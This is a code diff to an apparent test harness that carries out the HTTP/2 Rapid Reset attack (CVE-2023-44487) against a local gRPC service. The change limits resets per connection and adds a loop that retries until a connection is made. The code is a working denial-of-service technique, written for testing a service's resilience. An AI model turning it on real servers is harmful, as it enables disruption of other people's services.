@@ -24,12 +24,16 @@ const emptyMessage = Buffer.alloc(5);
 const symbol = Buffer.from('cell.v1.ComputeService');
 const reflectionMessage = Buffer.concat([Buffer.from([0, 0, 0, 0, symbol.length + 2, 0x22, symbol.length]), symbol]);
 const waves = 50;
+/** More of them make the attacker slow, not the target. */
+const resetsPerConnection = 2_000;
+const connectWithinMs = 2_000;
 
 /** Opens calls and resets each at once (CVE-2023-44487), on new connections when the old ones are closed for it. */
 export const rapidReset: Attack = async (target, count) => {
   for (let reset = 0; reset < count; ) {
     const session = await open(target);
-    while (isOpen(session) && reset < count) {
+    const enough = Math.min(count, reset + resetsPerConnection);
+    while (isOpen(session) && reset < enough) {
       for (let index = 0; index < waves && isOpen(session); index += 1, reset += 1) {
         const stream = request(session, checkPath);
         stream.write(emptyMessage);
@@ -159,12 +163,19 @@ function request(session: ClientHttp2Session, path: string, headers: OutgoingHtt
 
 const isOpen = (session: ClientHttp2Session): boolean => !session.closed && !session.destroyed;
 
+/** A new connection; tries until there is one, for the target may close some before they are made. */
 async function open(target: Target): Promise<ClientHttp2Session> {
   const { port, ca, certificate, key } = target;
-  const session = connect(`https://localhost:${port}`, { ca, cert: certificate, key });
-  session.on('error', () => undefined);
-  await once(session, 'connect');
-  return session;
+  for (;;) {
+    const session = connect(`https://localhost:${port}`, { ca, cert: certificate, key });
+    const isMade = await new Promise<boolean>((resolve) => {
+      session.once('connect', () => resolve(true));
+      for (const event of ['error', 'close']) session.on(event, () => resolve(false));
+      setTimeout(resolve, connectWithinMs, false).unref();
+    });
+    if (isMade) return session;
+    session.destroy();
+  }
 }
 
 async function openSocket({ port, ca, certificate, key }: Target): Promise<TLSSocket> {
